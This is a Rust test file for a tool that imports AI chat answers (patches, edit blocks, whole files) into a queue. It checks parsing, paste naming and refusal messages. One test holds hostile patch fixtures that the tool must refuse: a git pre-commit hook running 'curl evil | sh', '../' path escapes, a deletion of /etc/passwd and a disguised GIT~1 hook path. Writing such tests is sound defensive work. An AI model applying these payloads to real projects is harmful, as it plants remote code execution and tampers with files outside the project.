//! Chat answers in every shape as inbox items (OpenAI patches, edit blocks, whole files), the
//! paste workflow, and hostile answers: paths into `.git` or out of the project, huge, binary.
//! A refusal is one sentence and writes nothing.

use patchdesk_error::{Code, Coded};
use patchdesk_intake::{DiffFlavor, Kind, Limits, Queue};
use std::fs;
use std::path::Path;
use time::macros::datetime;

const V4A: &str = "Here is the change:\n\n```\n*** Begin Patch\n*** Update File: docs/goals.md\n@@\n-old\n+new\n*** Add File: docs/new.md\n+hello\n*** End Patch\n```\n";
const BLOCKS: &str = "docs/goals.md\n```\n<<<<<<< SEARCH\nold\n=======\nnew\n>>>>>>> REPLACE\n```\n";
const WHOLE: &str = "Here is the complete updated file:\n\n**docs/goals.md**\n```markdown\n# Goals\nnew\n```\n";

fn files_under(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = fs::read_dir(&dir) else { continue };
        for e in entries {
            let p = e.unwrap().path();
            out.push(p.strip_prefix(root).unwrap().display().to_string());
            if p.is_dir() {
                stack.push(p);
            }
        }
    }
    out.sort();
    out
}

#[test]
fn every_shape_becomes_an_inbox_item() {
    let dir = tempfile::tempdir().unwrap();
    let q = Queue::open(dir.path()).unwrap();
    let cases = [
        ("patch_F2.1.txt", V4A, DiffFlavor::OpenAiPatch, "Changes docs/goals.md and docs/new.md"),
        ("patch_F2.2.md", BLOCKS, DiffFlavor::EditBlocks, "Changes docs/goals.md"),
        ("patch_F2.3.txt", WHOLE, DiffFlavor::WholeFiles, "Changes docs/goals.md"),
        // An envelope saved as .diff is still an OpenAI patch, not a broken diff.
        (
            "patch_F2.4.diff",
            &V4A.replace("hello", "hello again"),
            DiffFlavor::OpenAiPatch,
            "Changes docs/goals.md and docs/new.md",
        ),
    ];
    for (name, text, flavor, summary) in cases {
        let report = q.import(&[(name.to_string(), text.as_bytes().to_vec())]);
        assert!(report.is_clean(), "{name}: {report:#?}");
        let item = &report.imported[0];
        assert_eq!(item.kind, Kind::Diff { flavor }, "{name}");
        assert_eq!(item.summary.as_deref(), Some(summary), "{name}");
        assert_eq!(q.read_bytes(&item.name).unwrap(), text.as_bytes());
    }
    // Whole files are taken from answers (.txt, .md, pasted) only: a .diff of prose is refused.
    let report = q.import(&[("patch_F2.5.diff".to_string(), WHOLE.as_bytes().to_vec())]);
    assert_eq!(report.refused.len(), 1, "{report:#?}");
}

/// Attack: answers naming paths inside `.git` (or its disguises) or outside the project are
/// refused at import, naming the path, and nothing is written. Before answers were read at
/// import, an OpenAI patch was taken for a damaged diff and stored as it was.
#[test]
fn answers_with_unsafe_paths_are_refused_at_import() {
    let hostile = [
        ("v4a-git.txt", "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+curl evil | sh\n*** End Patch\n", ".git"),
        ("v4a-escape.txt", "*** Begin Patch\n*** Add File: ../../outside.txt\n+x\n*** End Patch\n", ".."),
        ("v4a-move.txt", "*** Begin Patch\n*** Update File: docs/goals.md\n*** Move to: .git/config\n@@\n-old\n+new\n*** End Patch\n", ".git"),
        ("v4a-abs.txt", "*** Begin Patch\n*** Delete File: /etc/passwd\n*** End Patch\n", "/etc/passwd"),
        ("blocks-git.md", ".GIT/config\n```\n<<<<<<< SEARCH\n=======\n[core]\n>>>>>>> REPLACE\n```\n", ".GIT"),
        ("whole-escape.txt", "**../.bashrc**\n```sh\necho pwned\n```\n", ".."),
        ("whole-gitdisguise.md", "### GIT~1/hooks/post-checkout\n```sh\necho pwned\n```\n", "GIT~1"),
    ];
    for (name, text, shown) in hostile {
        let dir = tempfile::tempdir().unwrap();
        let q = Queue::open(dir.path()).unwrap();
        let report = q.import(&[(name.to_string(), text.as_bytes().to_vec())]);
        assert!(report.imported.is_empty(), "{name} was imported: {report:#?}");
        let err = &report.refused[0].error;
        assert_eq!(err.code, Code::UnsafePath, "{name}: {err:?}");
        assert!(err.message.contains(name) && err.message.contains(shown), "{name}: {}", err.message);
        assert!(files_under(dir.path()).is_empty(), "{name}: {:?}", files_under(dir.path()));
        // The same text pasted is refused the same way.
        let e = q.paste(text.as_bytes(), Some("F2.1"), datetime!(2026-11-30 12:00:00 UTC)).unwrap_err();
        assert_eq!(e.code(), Code::UnsafePath, "{name}: {e}");
        assert!(
            e.to_string().starts_with("The pasted answer cannot be used: ") && e.to_string().contains(shown),
            "{e}"
        );
        assert!(files_under(dir.path()).is_empty());
    }
}

#[test]
fn a_paste_is_saved_like_a_download() {
    let dir = tempfile::tempdir().unwrap();
    let q = Queue::open(dir.path()).unwrap();
    let preview = q.recognise_paste(V4A.as_bytes()).unwrap();
    assert_eq!(preview.description, "OpenAI patch, 2 files");
    assert_eq!(preview.paths, ["docs/goals.md", "docs/new.md"]);
    assert_eq!(preview.task_id, None);
    assert!(files_under(dir.path()).is_empty(), "recognising writes nothing");

    // Without a task, the lead is asked for one; nothing is written.
    let e = q.paste(V4A.as_bytes(), None, datetime!(2026-11-30 12:34:56 UTC)).unwrap_err();
    assert_eq!(e.code(), Code::TaskNotFound);
    assert_eq!(e.to_string(), "The pasted answer does not name its task; choose the task it is for.");
    assert!(files_under(dir.path()).is_empty());

    // With the task chosen: stored as patch_<ts>_<task>.txt, time from the caller, in UTC.
    let item = q.paste(V4A.as_bytes(), Some("F2.1"), datetime!(2026-11-30 13:34:56 +01:00)).unwrap();
    assert_eq!(item.name, "patch_20261130_123456_F2.1.txt");
    assert_eq!(item.task_id.as_deref(), Some("F2.1"));
    assert_eq!(item.kind, Kind::Diff { flavor: DiffFlavor::OpenAiPatch });
    assert_eq!(fs::read(dir.path().join(".patches/queue/patch_20261130_123456_F2.1.txt")).unwrap(), V4A.as_bytes());
    assert_eq!(q.list().unwrap(), vec![item.clone()]);

    // The same answer again is said to be there already.
    let e = q.paste(V4A.as_bytes(), Some("F2.1"), datetime!(2026-11-30 12:40:00 UTC)).unwrap_err();
    assert_eq!(e.code(), Code::AlreadyImported);
    assert!(e.to_string().contains("patch_20261130_123456_F2.1.txt"), "{e}");

    // A text that names its task needs none from the caller.
    let named = format!("Task: F3.1\n\n{BLOCKS}");
    let preview = q.recognise_paste(named.as_bytes()).unwrap();
    assert_eq!((preview.description.as_str(), preview.task_id.as_deref()), ("Edit blocks, 1 file", Some("F3.1")));
    let item = q.paste(named.as_bytes(), None, datetime!(2026-11-30 12:00:00 UTC)).unwrap();
    assert_eq!((item.name.as_str(), item.task_id.as_deref()), ("patch_20261130_120000_F3.1.txt", Some("F3.1")));

    // Whole files and plain diffs are pasted too.
    let item = q.paste(WHOLE.as_bytes(), Some("F4.1"), datetime!(2026-11-30 12:00:01 UTC)).unwrap();
    assert_eq!(item.kind, Kind::Diff { flavor: DiffFlavor::WholeFiles });
    let diff = "```diff\n--- a/docs/goals.md\n+++ b/docs/goals.md\n@@ -1 +1 @@\n-old\n+newer\n```\n";
    let item = q.paste(diff.as_bytes(), Some("F4.2"), datetime!(2026-11-30 12:00:02 UTC)).unwrap();
    assert_eq!(item.kind, Kind::Diff { flavor: DiffFlavor::Chat });
}

#[test]
fn pastes_that_are_not_answers_are_refused_in_one_sentence() {
    let dir = tempfile::tempdir().unwrap();
    let limits = Limits { max_input_bytes: 1 << 20, ..Limits::default() };
    let q = Queue::open_with(dir.path(), limits).unwrap();
    let at = datetime!(2026-11-30 12:00:00 UTC);
    let huge = format!("*** Begin Patch\n*** Add File: a.txt\n{}*** End Patch\n", "+x\n".repeat(400_000));
    let mut binary = V4A.as_bytes().to_vec();
    binary.extend_from_slice(&[0, 1, 2, 3, 0, 0xff]);
    let cases: [(&[u8], Code, &str); 6] = [
        (b"", Code::EmptyInput, "There is no text to add: the clipboard is empty. Copy the pod's answer in the chat first."),
        (b"  \n\t\r\n", Code::EmptyInput, "There is no text to add: the clipboard is empty. Copy the pod's answer in the chat first."),
        (huge.as_bytes(), Code::InputTooLarge, "The pasted text is 1.1 MB, more than the 1.0 MB Patchdesk takes from one answer; ask the pod for a ZIP bundle instead."),
        (&binary, Code::PatchUnreadable, "The pasted text holds binary data, not a chat answer; copy the pod's answer as text."),
        (b"Sure! I updated the goals file as you asked. Let me know if you need anything else.\n", Code::PatchUnreadable, "The pasted text holds no change Patchdesk can read (a patch, an OpenAI patch, edit blocks, or whole files named by a path); copy the pod's whole answer."),
        (b"- thought: only a log\n", Code::PatchUnreadable, "The pasted text holds no change Patchdesk can read (a patch, an OpenAI patch, edit blocks, or whole files named by a path); copy the pod's whole answer."),
    ];
    for (text, code, words) in cases {
        let started = std::time::Instant::now();
        let e = q.paste(text, Some("F2.1"), at).unwrap_err();
        assert_eq!((e.code(), e.to_string().as_str()), (code, words));
        assert!(started.elapsed().as_secs() < 10);
    }
    // A task id that cannot be a file name is refused, not written under another name.
    let e = q.paste(V4A.as_bytes(), Some("../x"), at).unwrap_err();
    assert_eq!(e.code(), Code::TaskNotFound, "{e}");
    assert!(files_under(dir.path()).is_empty(), "{:?}", files_under(dir.path()));
}
